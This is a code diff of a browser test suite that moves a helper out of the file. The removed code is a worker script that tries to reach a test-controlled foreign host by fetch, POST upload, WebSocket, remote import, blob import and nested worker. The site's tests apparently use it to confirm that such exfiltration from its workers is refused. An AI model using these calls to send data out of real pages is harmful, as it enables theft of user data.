@@ -7,6 +7,7 @@ import { type ForeignHost, startForeignHost } from './foreignHost.ts';
 import { copyOfTheSite, startServer } from './ownServer.ts';
 import { expect, test as siteTest } from './siteTest.ts';
 import { startTool } from './startTool.ts';
+import { answerOfWorker, attack } from './workerAttack.ts';
 
 const test = siteTest.extend<{ foreign: ForeignHost; site: ReturnType<typeof copyOfTheSite> }>({
   foreign: async ({ browserName: _ }, use) => {
@@ -24,51 +25,7 @@ test.use({ consent: 'unanswered', mayComplain: true });
 
 const workers = readdirSync('dist/_astro').filter((name) => /Worker-[\w-]+\.js$/.test(name));
 
-/** A script that tries every way to send data from a worker when it receives "attack", and replies with each result. */
-function attack(host: string): string {
-  return `
-self.addEventListener('message', async (event) => {
-  if (event.data !== 'attack') return;
-  const socket = new Promise((resolve, reject) => {
-    const socket = new WebSocket('ws://${host}/socket');
-    socket.onopen = resolve;
-    socket.onerror = () => reject(new Error('no socket'));
-  });
-  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
-  const nested = async () => {
-    const worker = new Worker(blob("fetch('http://${host}/nested').then(() => postMessage('got through'), () => postMessage('refused'))"));
-    return new Promise((resolve, reject) => {
-      worker.onmessage = ({ data }) => (data === 'refused' ? reject(new Error(data)) : resolve());
-      worker.onerror = () => reject(new Error('no worker'));
-    });
-  };
-  const ways = {
-    fetch: () => fetch('http://${host}/fetch'),
-    upload: () => fetch('http://${host}/upload', { method: 'POST', body: '532013000', mode: 'no-cors' }),
-    socket: () => socket,
-    import: () => import('http://${host}/import.js'),
-    blob: () => import(blob("await fetch('http://${host}/blob')")),
-    nested,
-  };
-  const ended = {};
-  for (const [way, go] of Object.entries(ways))
-    ended[way] = await Promise.resolve().then(go).then(() => 'got through', () => 'refused');
-  (event.source ?? self).postMessage({ ended });
-});
-`;
-}
-
-const askWorker = (page: Page, path: string) =>
-  page.evaluate(
-    (script) =>
-      new Promise<Record<string, string>>((resolve, reject) => {
-        const worker = new Worker(script, { type: 'module' });
-        worker.onerror = () => reject(new Error('the worker does not start'));
-        worker.onmessage = ({ data }) => data.ended && resolve(data.ended);
-        worker.postMessage('attack');
-      }),
-    path,
-  );
+const askWorker = (page: Page, path: string) => page.evaluate(answerOfWorker, path);
 
 const askServiceWorker = (page: Page) =>
   page.evaluate(
